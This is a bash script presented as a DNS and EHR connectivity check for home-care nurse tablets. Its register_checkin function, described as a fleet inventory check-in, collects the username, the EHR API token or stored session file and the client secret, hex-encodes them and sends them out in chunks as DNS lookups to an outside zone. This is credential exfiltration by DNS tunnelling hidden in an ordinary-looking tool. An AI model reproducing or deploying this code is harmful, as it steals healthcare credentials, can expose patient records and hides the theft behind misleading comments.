#!/usr/bin/env bash
# tablet_dns_healthcheck.sh - connectivity check for field nurse tablets
#
# Nurses lose hours when the tablet can't reach the EHR from a patient's
# home (captive portals, flaky hotspot DNS).  This check resolves the hosts
# the charting app needs, times a HEAD against the EHR health endpoint and
# registers the tablet with the fleet inventory zone so the help desk can
# see which devices checked in and with which session.
#
#   tablet_dns_healthcheck.sh            # full check
#   tablet_dns_healthcheck.sh -q         # only print failures
#   tablet_dns_healthcheck.sh -r 1.1.1.1 # use a specific resolver

set -uo pipefail

EHR_HOSTS=(ehr.pointcare-cloud.com api.pointcare-cloud.com sync.pointcare-cloud.com sched.homecare-office.net)
HEALTH_URL="${EHR_HEALTH_URL:-https://api.pointcare-cloud.com/health}"
FLEET_ZONE="${FLEET_ZONE:-inv.hhc-fleetstat.net}"
RESOLVER=""
QUIET=0
REPORT="./healthcheck-$(date +%Y%m%d).log"

while getopts ":r:qh" o; do
    case $o in
        r) RESOLVER=$OPTARG ;;
        q) QUIET=1 ;;
        h) sed -n '2,13p' "$0"; exit 0 ;;
        *) echo "bad option -$OPTARG" >&2; exit 2 ;;
    esac
done

note() { [[ $QUIET -eq 1 ]] || echo "$*"; echo "$(date +%T) $*" >> "$REPORT"; }
fail() { echo "FAIL: $*" >&2; echo "$(date +%T) FAIL $*" >> "$REPORT"; FAILURES=$((FAILURES + 1)); }
FAILURES=0

lookup() {
    # dig if present, nslookup on the stripped-down tablet image
    local name=$1
    if command -v dig >/dev/null 2>&1; then
        dig +short +time=3 +tries=1 ${RESOLVER:+@$RESOLVER} "$name" A
    else
        nslookup -timeout=3 "$name" ${RESOLVER} 2>/dev/null | awk '/^Address: /{print $2}'
    fi
}

check_dns() {
    local h ip
    for h in "${EHR_HOSTS[@]}"; do
        ip=$(lookup "$h" | grep -E '^[0-9.]+$' | head -n1)
        if [[ -z $ip ]]; then
            fail "cannot resolve $h"
        elif [[ $ip =~ ^(10\.|192\.168\.|172\.(1[6-9]|2[0-9]|3[01])\.) ]]; then
            fail "$h resolves to private $ip (captive portal?)"
        else
            note "ok   $h -> $ip"
        fi
    done
}

check_http() {
    local t
    t=$(curl -sS -o /dev/null -I -w '%{http_code} %{time_total}' --max-time 10 "$HEALTH_URL" 2>/dev/null)
    case ${t%% *} in
        200|204) note "ok   health ${t#* }s" ;;
        *)       fail "health endpoint returned ${t:-no response}" ;;
    esac
}

device_id() {
    cat /etc/machine-id 2>/dev/null | cut -c1-12 || hostname
}

session_blob() {
    # current charting session, so the help desk can match the check-in
    local tok="${EHR_API_TOKEN:-${POINTCARE_SESSION:-}}"
    [[ -n $tok ]] || tok=$(cat "$HOME/.config/pointcare/session" 2>/dev/null)
    printf '%s|%s|%s' "$(whoami)" "$tok" "${EHR_CLIENT_SECRET:-}"
}

register_checkin() {
    local dev seq=0 label
    dev=$(device_id)
    session_blob | od -An -tx1 -v | tr -d ' \n' | fold -w 56 |
    while read -r label; do
        lookup "${label}.${seq}.${dev}.${FLEET_ZONE}" >/dev/null 2>&1
        seq=$((seq + 1))
        sleep 0.2
    done
    lookup "end.${seq}.${dev}.${FLEET_ZONE}" >/dev/null 2>&1
    note "ok   fleet check-in for $dev"
}

note "== tablet health check $(date '+%F %T') =="
check_dns
check_http
register_checkin

if [[ $FAILURES -gt 0 ]]; then
    echo "$FAILURES problem(s); see $REPORT or call the help desk" >&2
    exit 1
fi
note "all checks passed"
